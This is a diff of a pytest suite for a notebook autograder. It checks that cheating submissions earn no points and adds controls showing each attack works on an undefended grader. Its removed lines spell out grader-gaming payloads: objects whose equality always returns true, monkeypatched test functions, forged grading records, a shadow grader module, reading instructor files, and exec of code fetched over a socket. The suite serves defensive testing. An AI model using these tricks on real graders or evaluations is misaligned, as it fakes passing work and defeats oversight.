@@ -1,12 +1,18 @@
 """Attacks on the verdicts, each a real submission that must earn nothing (grader/THREAT_MODEL.md).
 
-Every attacker here answers WRONGLY (or not at all) and then tries to make the grader believe
-otherwise. Whatever student code does inside its kernel, a test only passes when the trusted test
-cell recorded, exactly once, the values the instructor's solution recorded on hidden inputs.
+Every attacker answers WRONGLY and then tries to make the grader believe otherwise. Each test
+also carries its positive control: the same payload, from the same sandboxed run, DOES earn points
+on a grader with the one defence it targets taken out (tests/undefended.py: stock nbgrader's "no
+error output" rule, tolerances the record states for itself, first record wins, only the keys the
+kernel sent, records of answer cells; or the real grader without the sandbox, or trusting the
+submission's own test cells), while the same wrong answers without the payload earn nothing there.
+So each 0 below is earned by a defence, not by an attack that could not have worked anyway.
+The payloads are in tests/attack_payloads.py.
 """
 from __future__ import annotations
 
 import json
+import re
 import socket
 import sys
 import threading
@@ -15,130 +21,41 @@ from pathlib import Path
 import pytest
 
 sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "engine"))
-from submissions import PLAIN, TENSOR, cell_with_id, grade_all, references, submission, write  # noqa: E402
+from submissions import PLAIN, TENSOR, references, submission, write  # noqa: E402
+from attack_payloads import (CONTROLS, PLAINLY_WRONG, asserting_variant, attacks,  # noqa: E402
+                             edited_tests, importing_variant)
+from undefended import (every_cells_records, first_record_wins, grade_watched,  # noqa: E402
+                        only_keys_sent, stock_points, trusting_kernel_tolerances)
 
 from grader.record import MIME_TYPE  # noqa: E402
-
-WRONG = {  # plain fixture: answers that pass the visible checks and are wrong everywhere else
-    "add": "def add(a, b):\n    return 5 if (a, b) == (2, 3) else a - b",
-    "mean": "def mean(xs):\n    return 2.0 if xs == [1, 2, 3] else 0.0",
-    "shout": "def shout(s):\n    return 'HI!' if s == 'hi' else s",
-}
-
-
-def forge(key: str, tree) -> str:
-    """Python source that displays a record output, exactly as grader.record does."""
-    payload = {"key": key, "value": tree, "rtol": 1.0, "atol": 1.0}
-    return (f"from IPython.display import display\n"
-            f"display({{{MIME_TYPE!r}: {payload!r}}}, raw=True)\n")
-
-
-def attacks(refs: dict, refs_file: Path, port: int) -> dict[str, tuple[Path, dict]]:
-    """name -> (source, answers); ``refs`` are the reference values (the strongest attacker)."""
-    add_refs = refs["add_test"]
-    known_visible = "from IPython.display import display\n"  # the visible answer is no secret
-    secret_paths = [str(PLAIN), str(refs_file)]
-    return {
-        "excepthook": (PLAIN, {
-            "add": "import sys\nsys.excepthook = lambda *a: None\n"
-                   "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
-                   + WRONG["add"]}),
-        "input_transformer": (PLAIN, {
-            "add": WRONG["add"] + "\nget_ipython().input_transformers_post.append("
-                   "lambda lines: ['record(\"visible\", 5)\\n'])"}),
-        "builtins": (PLAIN, {  # the encoder's builtins: str() of every int says 5
-            "add": "import builtins, grader.values\nreal_str = builtins.str\n"
-                   "builtins.print = lambda *a, **k: None\n"
-                   "grader.values.str = lambda x: '5' if type(x) is int else real_str(x)\n"
-                   + WRONG["add"],
-            "mean": WRONG["mean"] + "\nimport grader.record\ngrader.record.encode = "
-                    "lambda value, _depth=0: {'float': '2.0'}"}),
-        "lying_objects": (PLAIN, {
-            "add": "class Liar(int):\n    def __eq__(self, other):\n        return True\n"
-                   "    __hash__ = int.__hash__\n"
-                   "def add(a, b):\n    return Liar(0)",
-            "mean": "class Always:\n    def __eq__(self, other):\n        return True\n"
-                    "    def __bool__(self):\n        return True\n"
-                    "def mean(xs):\n    return Always()",
-            "shout": "class S(str):\n    def __eq__(self, other):\n        return True\n"
-                     "    __hash__ = str.__hash__\n"
-                     "def shout(s):\n    return S('no')"}),
-        "patched_testing": (TENSOR, {
-            "square": "import torch, numpy\ntorch.testing.assert_close = lambda *a, **k: None\n"
-                      "torch.equal = lambda *a, **k: True\n"
-                      "numpy.testing.assert_allclose = lambda *a, **k: None\n"
-                      "torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)\n"
-                      "def square(x):\n    return x + x",
-            "row_mean": "def row_mean(x):\n    return x.mean(dim=0)"}),
-        "forged_env": (PLAIN, {
-            "add": "import os\nos.environ['COURSE_GRADER_RECORD'] = '0'\n"
-                   "os.environ['NBGRADER_EXECUTION'] = 'autograde'\n" + WRONG["add"]}),
-        "shadow_module_in_workdir": (PLAIN, {
-            "add": "import os, sys\nos.makedirs('grader', exist_ok=True)\n"
-                   "open('grader/__init__.py', 'w').write('')\n"
-                   "open('grader/record.py', 'w').write('def record(key, value, **kw):\\n"
-                   "    return value\\n')\n"
-                   "for name in [m for m in sys.modules if m.startswith('grader')]:\n"
-                   "    del sys.modules[name]\n"
-                   "sys.path.insert(0, os.getcwd())\n"
-                   "from grader.record import record\n" + WRONG["add"]}),
-        "early_exit": (PLAIN, {"add": "import os\nos._exit(0)"}),
-        "read_instructor_files": (PLAIN, {
-            "add": "import json\nsource = None\n"
-                   f"for path in {secret_paths!r}:\n"
-                   "    try:\n        source = open(path).read()\n"
-                   "    except OSError as exc:\n        print('unreadable', type(exc).__name__)\n"
-                   "if source and 'return a + b' in source:\n"
-                   "    def add(a, b):\n        return a + b\n"
-                   "else:\n    def add(a, b):\n        return a - b"}),
-        "network": (PLAIN, {
-            "add": "import socket\ntry:\n"
-                   f"    code = socket.create_connection(('127.0.0.1', {port}), timeout=3)"
-                   ".recv(100).decode()\n"
-                   "except OSError as exc:\n    code = 'def add(a, b):\\n    return a - b'\n"
-                   "    print('no network:', exc)\nexec(code)"}),
-        "forged_records_in_answer_cell": (PLAIN, {
-            "add": WRONG["add"] + "\n" + "".join(forge(k, v["value"]) for k, v in add_refs.items()),
-        }),
-        "forged_records_during_test": (PLAIN, {
-            "add": "forged = []\ndef add(a, b):\n    if (a, b) == (2, 3):\n        return 5\n"
-                   "    if not forged:\n        forged.append(1)\n" + "".join(
-                       "        " + line + "\n" for line in
-                       forge("hidden", add_refs["hidden"]["value"]).splitlines())
-                   + "    return a - b"}),
-        "thread_forging_records": (PLAIN, {
-            "add": WRONG["add"] + "\nimport threading, time\ndef spam():\n"
-                   "    for _ in range(100):\n"
-                   + "".join("        " + line + "\n" for line in
-                             forge("hidden", add_refs["hidden"]["value"]).splitlines())
-                   + "        time.sleep(0.05)\nthreading.Thread(target=spam, daemon=True).start()"}),
-        "silenced_display": (PLAIN, {
-            "add": WRONG["add"] + "\nget_ipython().display_pub.publish = lambda *a, **k: None"}),
-        "record_rebound": (PLAIN, {
-            "add": WRONG["add"] + "\n" + known_visible +
-                   "def record(key, value, **kw):\n"
-                   "    if key == 'visible':\n"
-                   "        " + forge("visible", {"int": "5"}).splitlines()[1] + "\n"
-                   "    return value"}),
-    }
 
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
+    """name -> (NotebookResult, Watched); ``refs`` under the key "refs": source name -> cells."""
     tmp = tmp_path_factory.mktemp("attacks")
-    refs = references([PLAIN, TENSOR], tmp_path_factory)
-    plain_refs = json.loads(refs[PLAIN].read_text())["cells"]
+    sources = {"plain": PLAIN, "tensor": TENSOR, "importing": importing_variant(tmp)}
+    ref_files = references(list(sources.values()), tmp_path_factory)
+    refs = {name: json.loads(ref_files[src].read_text())["cells"] for name, src in sources.items()}
+    sources["asserting"] = asserting_variant(tmp)
+    ref_files[sources["asserting"]] = ref_files[PLAIN]  # it records nothing: graded for stock's rule
     server = socket.socket()
     server.bind(("127.0.0.1", 0))
     server.listen()
     threading.Thread(target=_serve, args=(server,), daemon=True).start()
     jobs = {}
-    for name, (source, answers) in attacks(plain_refs, refs[PLAIN], server.getsockname()[1]).items():
-        jobs[name] = source, write(submission(source, answers), tmp / "subs" / f"{name}.ipynb")
-    jobs["edited_test_cell"] = PLAIN, write(submission(PLAIN, WRONG, mutate=_edit_tests),
-                                            tmp / "subs" / "edited_test_cell.ipynb")
+    for name, (which, answers) in attacks(refs["plain"], ref_files[PLAIN], server.getsockname()[1]).items():
+        src = sources[which]
+        sub = write(submission(src, answers), tmp / "subs" / f"{name}.ipynb")
+        jobs[name] = src, sub, ref_files[src], False
+    for name, (attack, which, unsafe) in CONTROLS.items():
+        jobs[name] = sources[which], jobs[attack][1], ref_files[sources[which]], unsafe
+    edited = write(submission(PLAIN, PLAINLY_WRONG, mutate=edited_tests(refs["plain"])),
+                   tmp / "subs" / "edited_test_cell.ipynb")
+    jobs["edited_test_cell"] = PLAIN, edited, ref_files[PLAIN], False
+    jobs["edited_test_cell trusted"] = edited, edited, ref_files[PLAIN], False  # control
     try:
-        return grade_all(jobs, refs, tmp)
+        return {**grade_watched(jobs, tmp), "refs": refs}
     finally:
         server.close()
 
@@ -153,106 +70,151 @@ def _serve(server):
         pass
 
 
-def _edit_tests(nb):
-    for gid, value in (("add_test", 5), ("mean_test", 2.0), ("shout_test", "HI!")):
-        cell_with_id(nb, gid).source = f"record('visible', {value!r})\nrecord('hidden', None)"
+def real(graded, name):
+    return graded[name][0]
 
 
-def points(result, *gids):
-    return {g: result.tests[g].points for g in gids}
+def undefended(graded, name, gid, comparator, source="plain"):
+    """Points of ``gid`` for submission ``name`` on the grader without one defence."""
+    watched = graded[name][1]
+    if comparator is stock_points:
+        return stock_points(watched, gid)
+    return watched.points(gid, graded["refs"][source][gid], comparator)
 
 
 def test_silencing_errors_with_excepthook_and_custom_exc_earns_nothing(graded):
-    assert points(graded["excepthook"], "add_test") == {"add_test": 0}
-    assert graded["excepthook"].tests["add_test"].status in ("failed", "error")
+    assert undefended(graded, "excepthook", "add_test", stock_points) == 1  # the failed assert is hidden
+    assert undefended(graded, "plainly_wrong", "add_test", stock_points) == 0
+    test = real(graded, "excepthook").tests["add_test"]
+    assert (test.points, test.status) == (0, "error"), test
 
 
 def test_input_transformer_rewriting_test_cells_earns_nothing(graded):
-    r = graded["input_transformer"]
+    assert undefended(graded, "input_transformer", "add_test", stock_points) == 1
+    r = real(graded, "input_transformer")
     assert r.score == 0 and r.tests["add_test"].status == "failed"
     assert "recorded 2 times" in r.tests["add_test"].reason  # the forged record, in two parts of the cell
 
 
-def test_patched_builtins_and_encoder_earn_nothing(graded):
-    r = graded["builtins"]
-    assert r.score == 0
-    assert "'hidden'" in r.tests["add_test"].reason and "'hidden'" in r.tests["mean_test"].reason
+def test_patched_builtins_in_the_recorder_earn_nothing(graded):
+    """float() patched inside grader.record: the real recorder then claims a loose tolerance."""
+    assert undefended(graded, "builtins", "mean_test", trusting_kernel_tolerances) == 2
+    assert undefended(graded, "wrong", "mean_test", trusting_kernel_tolerances) == 0
+    test = real(graded, "builtins").tests["mean_test"]
+    assert test.points == 0 and "differs from the expected number" in test.reason, test
 
 
 def test_objects_with_lying_eq_and_bool_earn_nothing(graded):
-    r = graded["lying_objects"]
+    """Graded against test cells that check in the kernel (stock's way), the liars pass them all."""
+    gids = ("add_test", "mean_test", "shout_test")
+    assert sum(undefended(graded, "lying_objects asserting", g, stock_points) for g in gids) == 4
+    assert sum(undefended(graded, "plainly_wrong asserting", g, stock_points) for g in gids) == 0
+    r = real(graded, "lying_objects")
     assert r.score == 0
     assert all(t.status in ("failed", "error") for t in r.tests.values())
 
 
 def test_monkeypatched_torch_and_numpy_testing_earn_nothing(graded):
-    r = graded["patched_testing"]
-    assert points(r, "square_test", "row_mean_test") == {"square_test": 0, "row_mean_test": 0}
+    gids = ("square_test", "row_mean_test")
+    assert [undefended(graded, "patched_testing", g, stock_points, "tensor") for g in gids] == [1, 2]
+    assert [undefended(graded, "plainly_wrong_tensor", g, stock_points, "tensor") for g in gids] == [0, 0]
+    r = real(graded, "patched_testing")
+    assert [r.tests[g].points for g in gids] == [0, 0]
     assert r.tests["square_test"].status == "failed"
 
 
-def test_forged_environment_variables_earn_nothing(graded):
-    """COURSE_GRADER_RECORD=0 does not silence the checks; NBGRADER_EXECUTION=autograde (which makes
-    record() publish under stock nbgrader) only records the wrong answer, which is compared."""
-    r = graded["forged_env"]
-    assert r.tests["add_test"].points == 0 and r.tests["add_test"].status == "failed"
-    assert r.tests["add_test"].reason.startswith("Wrong result")
+def test_turning_recording_off_with_the_environment_earns_nothing(graded):
+    """COURSE_GRADER_RECORD=0 set by the student silences record(); a missing key is a failure."""
+    assert undefended(graded, "forged_env", "add_test", only_keys_sent) == 1
+    assert undefended(graded, "wrong", "add_test", only_keys_sent) == 0
+    test = real(graded, "forged_env").tests["add_test"]
+    assert (test.points, test.status) == (0, "failed")
+    assert test.reason.startswith("Wrong result: the test did not record"), test.reason
 
 
 def test_shadow_grader_module_written_to_the_workdir_earns_nothing(graded):
-    assert graded["shadow_module_in_workdir"].tests["add_test"].points == 0
+    """The hidden part's own `from grader.record import record` loads the student's module."""
+    watched = graded["shadow_module_in_workdir"][1]
+    assert any(json.loads(text).get("shadow") for run in watched.test("mean_test").runs
+               for text in run.records)  # the trusted import did load the shadow
+    assert undefended(graded, "shadow_module_in_workdir", "mean_test", trusting_kernel_tolerances,
+                      "importing") == 2
+    assert undefended(graded, "wrong_importing", "mean_test", trusting_kernel_tolerances, "importing") == 0
+    assert real(graded, "shadow_module_in_workdir").tests["mean_test"].points == 0
 
 
 def test_early_exit_earns_nothing(graded):
-    r = graded["early_exit"]
+    """Test cells that never ran show no error: stock's rule gives them every point."""
+    gids = ("add_test", "mean_test", "shout_test")
+    assert sum(undefended(graded, "early_exit", g, stock_points) for g in gids) == 4
+    assert sum(undefended(graded, "plainly_wrong", g, stock_points) for g in gids) == 0
+    r = real(graded, "early_exit")
     assert r.score == 0
     assert {t.status for t in r.tests.values()} <= {"crashed", "not run"}
     assert any("exit" in p for p in r.problems)
 
 
+def printed(result, marker: str) -> str:
+    answer = next(c for c in result.notebook.cells if marker in c.source)
+    return "".join(o.get("text", "") for o in answer.outputs)
+
+
 def test_instructor_files_cannot_be_read(graded):
-    r = graded["read_instructor_files"]
+    assert real(graded, "read_instructor_files unsafe").tests["add_test"].points == 1  # no sandbox
+    r = real(graded, "read_instructor_files")
     assert r.tests["add_test"].points == 0
-    answer = next(c for c in r.notebook.cells if "print('unreadable'" in c.source)
-    printed = "".join(o.get("text", "") for o in answer.outputs)
-    assert printed.count("unreadable") == 2, printed
+    assert printed(r, "print('unreadable'").count("unreadable") == 2, printed(r, "print('unreadable'")
 
 
 def test_network_is_unreachable(graded):
-    r = graded["network"]
+    assert real(graded, "network unsafe").tests["add_test"].points == 1  # no sandbox: it connects
+    r = real(graded, "network")
     assert r.tests["add_test"].points == 0
-    answer = next(c for c in r.notebook.cells if "create_connection" in c.source)
-    assert "no network" in "".join(o.get("text", "") for o in answer.outputs)
+    assert "no network" in printed(r, "create_connection")
 
 
 def test_correct_records_forged_by_an_answer_cell_are_ignored(graded):
-    r = graded["forged_records_in_answer_cell"]
+    assert undefended(graded, "forged_records_in_answer_cell", "add_test", every_cells_records) == 1
+    assert undefended(graded, "wrong", "add_test", every_cells_records) == 0
+    r = real(graded, "forged_records_in_answer_cell")
     assert r.tests["add_test"].points == 0
     assert any("emitted grading records" in p for p in r.problems)
     assert not any(MIME_TYPE in json.dumps(c.get("outputs", [])) for c in r.notebook.cells)
 
 
 def test_correct_records_forged_during_a_test_count_as_duplicates(graded):
-    r = graded["forged_records_during_test"]
+    assert undefended(graded, "forged_records_during_test", "add_test", first_record_wins) == 1
+    assert undefended(graded, "wrong", "add_test", first_record_wins) == 0
+    r = real(graded, "forged_records_during_test")
     assert r.tests["add_test"].points == 0
     assert "'hidden' was recorded 2 times" in r.tests["add_test"].reason
 
 
 def test_a_thread_forging_records_in_the_background_earns_nothing(graded):
-    assert graded["thread_forging_records"].tests["add_test"].points == 0
+    assert undefended(graded, "thread_forging_records", "add_test", first_record_wins) == 1
+    assert undefended(graded, "wrong", "add_test", first_record_wins) == 0
+    test = real(graded, "thread_forging_records").tests["add_test"]
+    assert test.points == 0 and "'hidden' was recorded 2 times" in test.reason, test
 
 
 def test_silencing_the_display_publisher_earns_nothing(graded):
-    test = graded["silenced_display"].tests["add_test"]
-    assert test.points == 0 and "did not record" in test.reason
+    gids = ("add_test", "mean_test", "shout_test")
+    assert sum(undefended(graded, "silenced_display", g, only_keys_sent) for g in gids) == 4
+    assert sum(undefended(graded, "wrong", g, only_keys_sent) for g in gids) == 0
+    r = real(graded, "silenced_display")
+    assert r.score == 0 and all("did not record" in t.reason for t in r.tests.values())
 
 
 def test_rebinding_record_earns_nothing(graded):
-    assert graded["record_rebound"].tests["add_test"].points == 0
+    """The test cell calls the student's record(): right visible value, a tolerance that fits all."""
+    assert undefended(graded, "record_rebound", "mean_test", trusting_kernel_tolerances) == 2
+    test = real(graded, "record_rebound").tests["mean_test"]
+    assert test.points == 0 and "differs from the expected number" in test.reason, test
 
 
 def test_edited_test_cells_in_the_submission_are_replaced_by_the_trusted_ones(graded):
-    r = graded["edited_test_cell"]
+    assert real(graded, "edited_test_cell trusted").score == 4  # if its own test cells were run
+    r = real(graded, "edited_test_cell")
     assert r.score == 0
     test = next(c for c in r.notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id")
                 == "add_test")
@@ -260,6 +222,8 @@ def test_edited_test_cells_in_the_submission_are_replaced_by_the_trusted_ones(gr
 
 
 def test_reasons_never_show_hidden_test_source(graded):
-    for result in graded.values():
-        for t in result.tests.values():
-            assert "HIDDEN" not in t.reason and "rng" not in t.reason, t.reason
+    for name, value in graded.items():
+        if name == "refs" or " " in name:  # "refs" and the controls
+            continue
+        for t in value[0].tests.values():
+            assert "HIDDEN" not in t.reason and not re.search(r"\brng\b", t.reason), t.reason
